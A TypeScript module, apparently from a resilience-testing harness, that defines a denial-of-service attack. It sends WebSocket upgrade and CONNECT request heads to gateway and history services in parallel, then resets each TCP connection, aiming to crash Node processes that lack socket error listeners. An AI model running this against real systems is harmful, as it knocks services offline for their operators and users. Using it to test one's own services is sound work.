import type { Attack } from "../attack.ts";
import { requestFor, upgradeTo } from "../attacker/attacker.ts";

const HEADS = [upgradeTo("/x"), upgradeTo("/ws"), requestFor("/x").replace("GET /x", "CONNECT x:1")];

/** A TCP reset ends a Node process if the socket has no error listener at that moment. */
export const upgradeReset: Attack = {
  name: "upgrade-reset",
  title: "upgrades to other paths and to /ws, and CONNECT, each followed by a TCP reset",
  shapes: ["split", "standalone"],
  perSecond: 500,
  unit: "resets",
  async run(attacker) {
    let sent = 0;
    await attacker.inParallel(20, async () => {
      while (await attacker.turn()) {
        const socket = await attacker.open(sent % 2 === 0 ? attacker.gateway : attacker.history);
        const head = HEADS[sent++ % HEADS.length] ?? "";
        socket?.write(head, () => socket.resetAndDestroy());
      }
    });
  },
};
